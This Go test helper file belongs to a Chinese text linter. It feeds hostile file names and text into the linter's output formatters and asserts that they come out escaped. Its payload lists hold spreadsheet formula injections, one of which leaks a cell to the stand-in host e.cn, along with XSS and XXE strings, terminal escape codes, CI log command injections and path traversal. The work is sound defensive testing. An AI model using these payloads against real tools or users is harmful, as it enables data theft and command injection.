package outputtest

import (
	"archive/zip"
	"bytes"
	_ "embed" // for the draft
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"gaolint/lint"
	"gaolint/lint/input"
	"gaolint/lint/output"
	"gaolint/lint/source"
)

// Payloads are what a text or a file name must not do to whoever reads the results: to a
// terminal, a spreadsheet, a page, the log of a build, an editor.
var Payloads = []string{
	// formulas
	`=1+1`, `=HYPERLINK("http://e.cn/?"&A1,"x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "＝1+1",
	`  =1+1`, `'=1+1`, `"=1+1"`, `";=1+1;"`, `_x003D_1+1`, `{=1+1}`,
	// tags and scripts
	`<script>alert(1)</script>`, `</testsuite><testsuite name="x">`, `"><img src=x onerror=alert(1)>`, `<!--`, `-->`, `]]>`, `<![CDATA[`, `&#60;script&#62;`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `'; alert(1); '`, `</script>`, `{{constructor.constructor('alert(1)')()}}`, `${7*7}`,
	// Markdown
	`[点此](http://e.cn)`, `![x](http://e.cn/x.png)`, `<http://e.cn>`, `http://e.cn www.e.cn a@e.cn @all`, "| a | b |\n|---|---|", "```\n# 一\n```", `[x]: http://e.cn`, `a\](http://e.cn)`,
	// escapes for terminals
	"\x1b]52;c;cm0=\x07", "\x1b[2J", "\u009b31m", "\x7f", "\b\b\b", "\x07",
	// commands in logs
	"::error file=x::y", "  ::stop-commands::t", "a%0A::set-env name=x::y", "\n::add-mask::x", "##[error]x", "##vso[task.setvariable variable=x]y", "x##[group]y", ",line=1::x", "%0D%0A",
	// order and invisible characters
	"\u202e倒\u202c", "\u2066x\u2069", "\u200b", "\ufeff", "\u2028", "\u2029", "\u0085", "\u00ad", "\U000E0041", "\u3164",
	// paths
	"../../etc/passwd", `C:\x`, "//e.cn/share", "a\nb", "%2e%2e/", "x?y#z", "CON", "",
}

// hostile is a draft with PART where text from outside stands.
//
//go:embed testdata/hostile.md
var hostile string

// Hostile is a file in which everything that comes from outside is the payload.
func Hostile(p string) []output.File {
	text := strings.ReplaceAll(hostile, "PART", p)
	f := Draft(p+".md", text)
	d := lint.Diagnostic{
		Rule: "words", Severity: lint.Error, Span: source.Span{Start: 0, End: len(text)},
		Message: lint.Text{ZH: p, EN: p}, Related: []lint.Related{{Span: source.Span{End: len(p)}, Message: lint.Text{ZH: p, EN: p}}},
		Fixes: []lint.Fix{{Title: lint.Text{ZH: p, EN: p}, Edits: []source.Edit{{Span: source.Span{End: len(p)}, New: p}}}},
	}
	quote := d
	quote.Message = lint.Text{ZH: "“" + p + "”应为“解读”。", EN: "“" + p + "”"}
	quote.Rule = p // a rule of the user's own
	f.Findings = []lint.Diagnostic{d, quote}
	plain := output.File{Path: p, Source: source.New(p, text), Findings: f.Findings}
	return []output.File{f, plain, {Path: "x/" + p, Failure: "坏" + p}}
}

// BadNames are payloads that text cannot be: file names of any bytes.
var BadNames = []string{"\xff", "a\xffb", "\xc3\x28", "甲\xe4\xb8.md", "\xed\xa0\x80"}

// EachHostile checks what is written of files that mean harm, each in a subtest.
func EachHostile(t *testing.T, check func(t *testing.T, files []output.File)) {
	for _, p := range Payloads {
		t.Run(fmt.Sprintf("%q", p), func(t *testing.T) { check(t, Hostile(p)) })
	}
	for _, p := range BadNames {
		t.Run(fmt.Sprintf("%q", p), func(t *testing.T) {
			f := Sample(p)
			f.Findings = []lint.Diagnostic{At(f, "主动公开", "错。", lint.Error)}
			check(t, []output.File{f, {Path: p, Failure: "坏"}})
		})
	}
}

var logCommand = regexp.MustCompile(`##[A-Za-z]*\[`)

// Calm: nothing that a terminal or the log of a build obeys.
func Calm(t *testing.T, out string, lineEnd string) {
	require.True(t, utf8.ValidString(out))
	Harmless(t, strings.ReplaceAll(out, lineEnd, "\n"))
	require.NotRegexp(t, logCommand, out)
	for line := range strings.Lines(out) {
		require.False(t, strings.HasPrefix(strings.TrimSpace(line), "::"), "%q", line)
	}
}

// Attacks are what a text or a file name must not do to a terminal.
var Attacks = []string{
	"\x1b]52;c;cm0=\x07", "\x1b[2J", "\u009b31m", "\x7f", "\x00", "\r覆盖", "\n假的一行", "\b\b\b", "\u202e倒", "\u2066", "\u200b", "\ufeff", "\u2028", "\u0085", "\u00ad", "\u061c", "\U000E0041", "\u3164", "\xff",
}

// Harmless requires that a terminal obeys nothing of the output and hides nothing.
func Harmless(t *testing.T, out string) {
	for _, r := range out {
		require.False(t, r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == 0x2028 || r == 0x2029 || r == 0x3164), "%q", out)
	}
}

// Finding is a finding in “做好戒毒。”, with a safe fix and a related place.
func Finding() lint.Diagnostic {
	return lint.Diagnostic{
		Rule: "words", Severity: lint.Error, Span: source.Span{Start: 6, End: 12},
		Message: lint.Text{ZH: "“戒毒”应为“解读”。", EN: "“戒毒” should be “解读”."},
		Fixes:   []lint.Fix{lint.Replace(lint.Text{ZH: "改为“解读”", EN: "change to “解读”"}, source.Span{Start: 6, End: 12}, "解读").Safely()},
		Related: []lint.Related{{Span: source.Span{Start: 0, End: 6}, Message: lint.Text{ZH: "前文", EN: "before"}}},
	}
}

// Styled are options in which every rule has one title.
func Styled(color bool, lowest lint.Severity) output.Options {
	return output.Options{Color: color, Lowest: lowest, Rule: func(string) *lint.Rule {
		return &lint.Rule{Title: lint.Text{ZH: "错别字", EN: "Wrong words"}}
	}}
}

// Broken is a writer that is full.
type Broken struct{}

func (Broken) Write([]byte) (int, error) { return 0, errors.New("full") }

// WordFile is a Word file with a finding.
func WordFile(t *testing.T) output.File {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, x := range [][2]string{
		{"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>关于做好工作的通知</w:t></w:r></w:p><w:p><w:r><w:t>做好戒毒工作。</w:t></w:r></w:p></w:body></w:document>`},
	} {
		w, err := z.Create(x[0])
		require.NoError(t, err)
		_, err = io.WriteString(w, x[1])
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	text, err := input.Read("通知.docx", b.Bytes())
	require.NoError(t, err)
	r := engine().Lint(text.Doc, nil)
	f := output.File{Path: "通知.docx", Source: r.Source, Text: text, Result: r}
	d := At(f, "戒毒", "“戒毒”应为“解读”。", lint.Error)
	d.Fixes = []lint.Fix{lint.Replace(lint.Text{ZH: "改为“解读”"}, d.Span, "解读")}
	d.Related = []lint.Related{{Span: d.Span, Message: lint.Text{ZH: "见此"}}}
	f.Findings = []lint.Diagnostic{d}
	return f
}
